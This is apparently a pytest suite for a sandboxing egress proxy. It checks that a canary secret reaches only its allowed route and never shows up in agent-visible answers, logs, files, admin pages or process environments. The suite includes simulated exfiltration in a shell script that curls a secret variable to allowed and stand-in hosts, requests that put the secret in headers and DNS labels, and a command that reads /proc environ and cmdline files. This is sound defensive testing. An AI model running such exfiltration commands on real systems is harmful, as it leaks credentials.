"""Secrets are set, used, reflected and handed to a bottle, then looked for everywhere they must not be."""

from __future__ import annotations

import base64
import re
import shutil
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest

from egress.tables.proxy_client import EgressProcess
from tests.support.bottle_cli import Bottles, family
from tests.support.requirements import require
from tests.support.site import ADDRESS, HOST, Site, post_form, running_site
from tests.support.timeouts import wait_until

pytestmark = pytest.mark.process
CANARY = "canary/7d1e+f00d=b4r5a9c2"
NAME = "CANARY_TOKEN"
HANDED = "handed/9c3a+beef=e1d2c3b4"  # to a bottle, as a variable
HOLDER = "holder"
FORMS = {
    f"{name} {form}": coded
    for name, secret in {"added": CANARY, "handed": HANDED}.items()
    for form, coded in {
        "plain": secret.encode(),
        "URL-encoded": quote(secret, safe="").encode(),
        "base64": base64.b64encode(secret.encode()).rstrip(b"="),
        "hex": secret.encode().hex().encode(),
        "middle": secret[4:-4].encode(),
    }.items()
}


def forms_in(text: str | bytes) -> list[str]:
    raw = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text
    return [name for name, form in FORMS.items() if form in raw]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The secret was set in the admin, bound to a route, used, and tried for."""
    with running_site(tmp_path_factory.mktemp("canary"), SUPERVISE_DEBUG="1", EGRESS_DEBUG="1") as site:
        with site.console() as browser:
            saved = post_form(browser, "/admin/egress/secret/add/", name=NAME, value=CANARY)
            assert "was added successfully" in saved.text
        granted = site.allow(
            path_allowlist=["/reflect", "/redirect"],
            auth={"scheme": "Bearer", "token_ref": NAME},
        )
        use(site)
        hand_over(site)
        try_for(site)
        ask_about(site, granted["proposal_id"])
        with site.console() as browser:  # what was refused last is on record
            wait_until(
                lambda: "/reflect/last" in browser.get("/admin/egress/trafficrecord/").text,
                what="the records",
            )
        yield site
        if shutil.which("bwrap"):
            Bottles(site.server).ok("delete", HOLDER)


def use(site: Site) -> None:
    """Requests that carry it to the origin, which repeats everything it gets."""
    for path in ("/reflect/a", "/reflect/b?x=1", "/redirect"):
        assert site.fetch(f"https://{HOST}{path}").status_code in (200, 302)


def hand_over(site: Site) -> None:
    """A real bottle holds one as its own variable, and tries every way to send it."""
    if not shutil.which("bwrap"):
        return  # those who need it say so
    bottles = Bottles(site.server)
    bottles.manifest(HOLDER, HOLDERS_MANIFEST)
    ran = bottles.command("start", HOLDER, "--", "sleep", "100000", HOST_HANDED=HANDED)
    assert ran.code == 0, ran.error
    site.told.append(bottles.ok("exec", HOLDER, "--", "sh", "-c", SEND))
    assert site.told[-1].count('"reason": "dlp"') == 5, site.told[-1]


def try_for(site: Site) -> None:
    """As if the agent had got hold of it: in every place of a request, allowed or not."""
    url, quoted = f"https://{HOST}", quote(CANARY, safe="")
    for path in (f"/reflect/{quoted}", f"/reflect?q={quoted}", f"/no-such-path/{CANARY}", f"/{NAME}"):
        assert site.fetch(url + path).status_code == 403
    for headers in ({"X-Mine": CANARY}, {"Authorization": f"Bearer {CANARY}"}, {"Cookie": f"a={CANARY}"}):
        site.fetch(f"{url}/reflect/h", headers=headers)
    for other in (f"http://{HOST}/reflect", f"https://no-route.example.com/{quoted}",
                  f"http://{CANARY.encode().hex()}.example.com/"):  # fmt: skip
        assert site.fetch(other).status_code == 403
    for path in ("allowlist", "health", f"why?url={quote(url, safe='')}", "nothing"):
        site.fetch(f"http://_egress.local/{path}")
    site.fetch(f"{url}/reflect/last")


def ask_about(site: Site, proposal: str) -> None:
    """All that an agent can hear of what was granted, besides what the call itself was answered."""
    site.tool("list-egress-routes")
    site.tool("check-proposal", proposal_id=proposal)
    for depth in ("minimal", "standard", "deep"):
        for form in ("json", "text"):
            site.context(depth=depth, format=form)


def test_the_origin_got_it_and_only_on_the_route(site: Site) -> None:
    carried = [seen for seen in site.origins.requests if seen.values("authorization")]
    assert len(carried) >= 5
    assert {tuple(seen.values("authorization")) for seen in carried} == {(f"Bearer {CANARY}",)}
    assert {seen.target.split("/")[1].partition("?")[0] for seen in carried} == {"reflect", "redirect"}


def test_no_answer_to_the_agent_holds_it(site: Site) -> None:
    results = [answer for answer in site.told if "structuredContent" in answer]
    assert len(results) == 3 and all("'content': [{'type': 'text', 'text': " in each for each in results)
    assert sum("# bot-bottle: session context" in answer for answer in site.told) == 3
    assert len(site.told) > 15
    assert [answer for answer in site.told if forms_in(answer)] == []


def test_the_agent_does_not_even_learn_its_name(site: Site) -> None:
    """From no answer but to a request that had the name in it."""
    assert [answer for answer in site.told if NAME in answer and f"/{NAME}" not in answer] == []


def test_the_logs_do_not_hold_it(site: Site) -> None:
    log = site.server.log()
    assert "egress DEBUG" in log or "egress INFO" in log
    assert forms_in(log) == []


def test_of_all_files_only_its_own_holds_it(site: Site) -> None:
    """The database, its journal, the bottle's files, sockets' directories, the discovery files."""
    files = [path for path in site.server.home.rglob("*") if path.is_file()]
    assert any(path.suffix == ".sqlite3" for path in files)
    holding = {path.relative_to(site.server.home) for path in files if forms_in(path.read_bytes())}
    assert holding - {Path("bottles") / HOLDER / "run" / "secret_variables.json"} == {
        Path("admin-secrets") / NAME
    }


def test_of_what_a_bottle_was_handed_the_host_has_one_private_file(site: Site) -> None:
    require(shutil.which("bwrap"), "bubblewrap", "apt-get install bubblewrap")
    told = site.server.home / "bottles" / HOLDER / "run" / "secret_variables.json"
    assert "handed plain" in forms_in(told.read_bytes())
    assert told.stat().st_mode & 0o777 == 0o600


def test_no_page_of_the_console_or_the_admin_shows_it(site: Site) -> None:
    with site.console() as browser:
        pages = crawl(browser, "/")
        assert any(address.startswith("/admin/egress/secret/") for address in pages)
        for part in ("auditevent", "decision", "proposal", "routetableversion", "trafficrecord"):
            assert any(re.search(rf"/{part}/[^/]+/change/", address) for address in pages), part
        assert [address for address, page in pages.items() if forms_in(page)] == []


def crawl(browser: httpx.Client, start: str) -> dict[str, str]:
    """Every page that a link leads to, without signing out."""
    pages: dict[str, str] = {}
    todo = [start]
    while todo and len(pages) < 400:
        address = todo.pop().replace("&amp;", "&").partition("#")[0]
        if address in pages or not address.startswith("/") or "logout" in address or "/static/" in address:
            continue
        if "?" in address and "/trafficrecord/" not in address:
            continue  # the same records, sorted otherwise
        if address.count("&") or "_facets" in address or "o=" in address:
            continue
        pages[address] = browser.get(address).text
        todo += re.findall(r'href="([^"]+)"', pages[address])
    return pages


def test_the_operator_api_does_not_give_it(site: Site) -> None:
    client = httpx.Client(
        base_url=site.server.console_url, headers={"Authorization": f"Bearer {site.key}"}, trust_env=False
    )
    with client:
        for path in ("proposals/", "history/", "bottles/", "bottles/agent-a/routes/", "schema/"):
            answer = client.get(f"/api/{path}")
            assert answer.status_code == 200, path
            assert forms_in(answer.content) == []
        proposal = client.get("/api/proposals/").json()["results"][0]["id"]
        assert forms_in(client.get(f"/api/proposals/{proposal}/").content) == []


def test_the_proxys_own_records_and_status_do_not_hold_it(site: Site) -> None:
    plane = EgressProcess(site.server.home / "run" / "egress.sock")
    assert forms_in(str(plane.status())) == []
    with closing(plane.ask_for_records(boot="", after=0, wait=0)) as question:
        records = question.answer()["records"]
    assert len(records) > 10
    assert [entry for entry in records if forms_in(str(entry))] == []


def test_no_process_of_ours_carries_it_in_environment_or_command(site: Site) -> None:
    for pid in (site.server.process.pid, site.pid("web"), site.pid("egress")):
        assert forms_in(Path(f"/proc/{pid}/environ").read_bytes()) == []
        assert forms_in(Path(f"/proc/{pid}/cmdline").read_bytes()) == []


HOLDERS_MANIFEST = f"""backend: local
env: {{MINE: {{from_env: HOST_HANDED}}}}
routes:
  - {{host: {HOST}, path_allowlist: [/reflect], pinned_addresses: [{ADDRESS}]}}
"""
SEND = f"""exec 2>&1
for way in "-d $MINE https://{HOST}/reflect" "-H X-Mine:$MINE https://{HOST}/reflect" \\
    "https://{HOST}/reflect/$MINE" "https://{HOST}/other/$MINE" "https://no-route.example.com/$MINE"; do
    curl -sS $way
done
"""
MANIFEST = f"""backend: local
routes:
  - {{host: {HOST}, auth: {{scheme: Bearer, token_ref: {NAME}}}, pinned_addresses: [{ADDRESS}]}}
"""
# As the agent sees it: every process of its bottle that it can look into.
LOOK = "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline"


@pytest.fixture
def bottle(site: Site) -> Iterator[Bottles]:
    """A real one whose route adds the secret, started by an operator who has it in the environment too."""
    require(shutil.which("bwrap"), "bubblewrap", "apt-get install bubblewrap")
    bottles = Bottles(site.server)
    slug = bottles.manifest("inside", MANIFEST)
    ran = bottles.command("start", slug, "--", "sleep", "100000", **{NAME: CANARY, "OTHER_NAME": CANARY})
    assert ran.code == 0, ran.error
    yield bottles
    bottles.ok("delete", slug)


def test_no_process_in_a_bottle_carries_it_in_environment_or_command(bottle: Bottles) -> None:
    inside = [pid for pid in family(bottle.supervisor("inside")) if is_inside(pid)]
    environments = {pid: Path(f"/proc/{pid}/environ").read_bytes() for pid in inside}
    commands = {pid: Path(f"/proc/{pid}/cmdline").read_bytes() for pid in inside}
    (agent,) = (pid for pid, command in commands.items() if command == b"sleep\x00100000\x00")
    assert b"HTTPS_PROXY=" in environments[agent]
    assert [pid for pid in inside if forms_in(environments[pid]) or forms_in(commands[pid])] == []
    ran = bottle.command("exec", "inside", "--", "sh", "-c", LOOK, **{NAME: CANARY})
    assert "sleep\x00100000" in ran.output and "HTTPS_PROXY=" in ran.output
    assert forms_in(ran.output) == []


def is_inside(pid: int) -> bool:
    return Path(f"/proc/{pid}/ns/pid").readlink() != Path("/proc/self/ns/pid").readlink()


def test_these_checks_find_what_they_look_for() -> None:
    for name, form in FORMS.items():
        assert name in forms_in(b"before " + form + b" after")
